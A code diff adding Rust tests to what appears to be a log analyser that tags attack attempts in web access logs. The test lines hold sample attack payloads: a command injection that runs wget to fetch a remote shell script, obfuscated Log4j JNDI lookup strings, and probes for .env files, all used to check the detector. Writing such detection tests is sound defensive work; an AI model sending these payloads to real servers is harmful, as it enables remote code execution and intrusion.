@@ -245,7 +245,7 @@ fn the_encoding_is_canonical_bytes() {
         r#"{"file":"a.log","line":1,"ip":"192.0.2.38","user":"alice","time":"2022-07-19T11:23:20Z","time_offset":"+0200","#,
         r#""method":"GET","target":"/a?b=c","protocol":"HTTP/1.1","request":"GET /a?b=c HTTP/1.1","status":404,"bytes":232,"#,
         r#""referer":"http://r.example/","user_agent":"Python-urllib/3.8","forwarded":["203.0.113.5","198.51.100.2"],"#,
-        r#""server_port":443,"host":"2001:db8::face","dns":{"name":null,"status":"not_found"},"dnsbl":[],"geo":null,"scanner":null}"#,
+        r#""server_port":443,"host":"2001:db8::face","dns":{"name":null,"status":"not_found"},"dnsbl":[],"geo":null,"scanner":null,"attacks":[]}"#,
         "\n",
         r#"{"file":"a.log","line":2,"error":{"column":1,"reason":"invalid client address \"bad\""},"raw":"bad"}"#,
         "\n",
@@ -354,4 +354,145 @@ fn a_host_answering_the_wrong_count_fails_lookups_not_the_batch() {
             .unwrap()
             .contains("returned 0 results for 4 addresses")
     );
+}
+
+#[test]
+fn attack_tags_per_field_with_evidence_and_on_unparsed_lines() {
+    let lines = vec![
+        r#"203.0.113.137 - - [19/Jul/2022:05:11:59 +0200] "GET /login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.33/x.sh HTTP/1.1" 400 157 "${jndi:ldap://x/a}" "${${lower:j}ndi:ldap://192.0.2.1/a}" "-" 80"#.to_string(),
+        r#"192.0.2.1 - - [19/Jul/2022:05:11:59 +0200] "\x16\x03\x01\x00\xF1" 400 157 "-" "${${lower:j}ndi:ldap://192.0.2.1/a}""#.to_string(),
+        r#"\x16\x03\x01 not a log line"#.to_string(),
+        "plain garbage".to_string(),
+    ];
+    let (out, _, _) = run(
+        &Filter::new(&[]).unwrap(),
+        &mut NoLookupsForTest,
+        1,
+        None,
+        &lines,
+    );
+    assert_eq!(
+        out[0]["attacks"],
+        serde_json::json!([
+            {"rule": "shell-download", "field": "request", "match": "wget http://192.0.2.33/x.sh"},
+            {"rule": "log4j-jndi", "field": "user_agent", "match": "${${lower:j}ndi:ldap://192.0.2.1/a}"},
+            {"rule": "log4j-jndi", "field": "referer", "match": "${jndi:ldap://x/a}"},
+        ])
+    );
+    // The same User-Agent again (memoized), after a request hit.
+    assert_eq!(out[1]["attacks"][0]["rule"], "tls-handshake");
+    assert_eq!(out[1]["attacks"][1]["field"], "user_agent");
+    assert_eq!(
+        out[2]["attacks"],
+        serde_json::json!([{"rule": "tls-handshake", "field": "raw", "match": "\u{16}\u{3}\u{1}"}])
+    );
+    assert!(
+        out[3].get("attacks").is_none(),
+        "no empty list on error records"
+    );
+    let off = Filter::new(&[Setting::new("attacks", Value::Flag(false))]).unwrap();
+    let (out, _, _) = run(&off, &mut NoLookupsForTest, 1, None, &lines);
+    assert!(out[0].get("attacks").is_none() && out[2].get("attacks").is_none());
+}
+
+#[test]
+fn custom_format_extra_keys_and_lines_without_a_client() {
+    let filter = Filter::new(&[Setting::new(
+        "log-format",
+        Value::Text(
+            r#"$remote_addr [$time_local] "$request" $status $request_time $upstream_response_time "$http_user_agent" $ssl_protocol"#
+                .into(),
+        ),
+    )])
+    .unwrap();
+    let lines = vec![
+        r#"unix: [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 0.005 - "ua" TLSv1.3"#.to_string(),
+        r#"10.0.0.2, 85.181.35.98 [19/Jul/2022:13:23:20 +0200] "GET /.env HTTP/1.1" 404 0.010 0.009, 0.001 "-" -"#.to_string(),
+    ];
+    let mut d = Double::default();
+    let (out, stats, text) = run(&filter, &mut d, 1, None, &lines);
+    assert_eq!(
+        stats.clients,
+        vec![v4(85, 181, 35, 98)],
+        "unix: is not looked up"
+    );
+    assert_eq!(d.reverse_calls, vec![vec![v4(85, 181, 35, 98)]]);
+    let unix = &out[0];
+    assert_eq!(unix["ip"], "unix:");
+    assert!(unix["dns"].is_null() && unix["geo"].is_null());
+    assert_eq!(unix["request_time"], 0.005);
+    assert!(unix.get("upstream_response_time").is_none());
+    assert_eq!(
+        unix["extra"],
+        serde_json::json!({"ssl_protocol": "TLSv1.3"})
+    );
+    let chained = &out[1];
+    assert_eq!(chained["ip"], "85.181.35.98");
+    assert_eq!(
+        chained["forwarded"],
+        serde_json::json!(["10.0.0.2", "85.181.35.98"])
+    );
+    assert_eq!(chained["upstream_response_time"], "0.009, 0.001");
+    assert_eq!(chained["extra"], serde_json::json!({"ssl_protocol": null}));
+    assert_eq!(chained["attacks"][0]["rule"], "dotenv");
+    assert!(
+        text.contains(r#""host":null,"request_time":0.005,"extra":{"ssl_protocol":"TLSv1.3"},"dns":null,"dnsbl":[],"geo":null,"scanner":null,"attacks":[]}"#),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_target_rule_and_a_replaced_rule_apply_in_the_batch() {
+    let filter = Filter::new(&[
+        Setting::new("attack-defaults", Value::Flag(false)),
+        Setting::new(
+            "attack-rule.admin",
+            Value::Table(vec![
+                ("pattern".into(), "^/admin".into()),
+                ("fields".into(), "target".into()),
+            ]),
+        ),
+    ])
+    .unwrap();
+    let lines = vec![
+        r#"192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] "GET /ADMIN/x HTTP/1.1" 200 1"#.to_string(),
+        r#"192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] "GET /.env HTTP/1.1" 200 1"#.to_string(),
+    ];
+    let (out, _, _) = run(&filter, &mut NoLookupsForTest, 1, None, &lines);
+    assert_eq!(
+        out[0]["attacks"],
+        serde_json::json!([{"rule": "admin", "field": "target", "match": "/ADMIN"}])
+    );
+    assert_eq!(
+        out[1]["attacks"],
+        serde_json::json!([]),
+        "built-ins dropped"
+    );
+}
+
+#[test]
+fn tags_are_the_same_when_the_request_memo_gives_up() {
+    // 600 distinct requests: after 256 the memo stops (no request repeats), and tagging
+    // goes on without it.
+    let lines: Vec<String> = (0..600)
+        .map(|i| {
+            let target = if i % 3 == 0 {
+                format!("/.env?{i}")
+            } else {
+                format!("/p{i}")
+            };
+            format!(r#"192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] "GET {target} HTTP/1.1" 200 1"#)
+        })
+        .collect();
+    let (out, _, _) = run(
+        &Filter::new(&[]).unwrap(),
+        &mut NoLookupsForTest,
+        1,
+        None,
+        &lines,
+    );
+    for (i, rec) in out.iter().enumerate() {
+        let want = if i % 3 == 0 { 1 } else { 0 };
+        assert_eq!(rec["attacks"].as_array().unwrap().len(), want, "line {i}");
+    }
 }
